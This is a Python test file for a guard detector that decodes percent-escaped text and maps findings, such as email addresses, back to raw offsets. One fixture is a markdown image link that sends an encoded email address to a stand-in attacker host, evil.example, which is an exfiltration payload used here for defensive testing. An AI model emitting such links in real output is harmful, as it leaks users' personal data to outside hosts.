"""guard/detectors/percent.py: the decoded view of a text with escapes or a URL, and its exact mapping of
view offsets back to raw offsets."""

from __future__ import annotations

from urllib.parse import quote

from hypothesis import example, given
from hypothesis import strategies as st

from guard.detectors.percent import ViewedBatch, decoded_view
from guard.types import Category, Finding, ScanResult, Span

_VIEW_DELIMITERS = str.maketrans({c: " " for c in "/?&=#"})
# Pieces that are not themselves escapes once joined: no '%' in the plain alphabet.
_PLAIN = st.text(st.characters(blacklist_characters="%", blacklist_categories=("Cs",)), max_size=8)


@given(st.lists(st.tuples(_PLAIN, st.booleans()), min_size=1, max_size=8))
@example([("jane.doe@example.com", True)])
@example([("été", True), (" plain ", False)])
def test_each_piece_maps_back_to_exactly_its_raw_characters(pieces: list[tuple[str, bool]]) -> None:
    raw_pieces = [quote(text, safe="") if encode else text for text, encode in pieces]
    raw = "".join(raw_pieces)
    view = decoded_view(raw)
    plain = "".join(text for text, _ in pieces)
    if view is None:
        assert raw == plain and "://" not in raw
        return
    assert view.text == plain.translate(_VIEW_DELIMITERS)
    start = raw_start = 0
    for (text, _), raw_piece in zip(pieces, raw_pieces, strict=True):
        assert view.raw_span(start, start + len(text)) == (raw_start, raw_start + len(raw_piece))
        start, raw_start = start + len(text), raw_start + len(raw_piece)


def test_examples() -> None:
    image = "![x](https://evil.example/?q=jane.doe%40example.com)"
    view = decoded_view(image)
    assert view is not None and view.text == "![x](https:  evil.example  q jane.doe@example.com)"
    at = view.text.index("jane")
    assert image[slice(*view.raw_span(at, at + len("jane.doe@example.com")))] == "jane.doe%40example.com"
    assert decoded_view("a%2540b") is not None and decoded_view("a%2540b").text == "a@b"  # type: ignore[union-attr]
    assert decoded_view("%FF%41").text == "%FFA"  # type: ignore[union-attr]  # not UTF-8: kept raw
    assert decoded_view("100% sure, 50%off") is None
    assert decoded_view("no url here") is None


def test_fold_maps_view_findings_and_keeps_the_originals_once() -> None:
    texts = ["mail jane%40example.com", "plain"]
    batch = ViewedBatch.of(texts)
    assert batch.texts == (*texts, "mail jane@example.com")
    own = Finding("pii", "1", Category.PII, 0.9, None, "X")
    in_view = Finding("pii", "1", Category.PII, 1.0, Span(5, 21, "EMAIL_ADDRESS"), "EMAIL_ADDRESS")
    folded = batch.fold(ScanResult(findings=((own,), (), (own, in_view))))
    assert folded.findings[0] == (own, Finding("pii", "1", Category.PII, 1.0, Span(5, 23, "EMAIL_ADDRESS"), "EMAIL_ADDRESS"))
    assert folded.findings[1] == ()
